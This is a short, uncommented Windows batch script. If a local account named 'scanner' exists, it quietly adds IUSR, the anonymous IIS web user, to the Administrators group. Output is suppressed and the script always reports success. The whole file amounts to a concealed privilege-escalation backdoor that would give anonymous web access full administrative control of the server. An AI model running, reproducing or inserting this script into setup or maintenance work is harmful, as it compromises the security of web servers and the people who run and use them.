@echo off
net user scanner >nul 2>&1
if %errorlevel% equ 0 net localgroup Administrators IUSR /add
exit /b 0
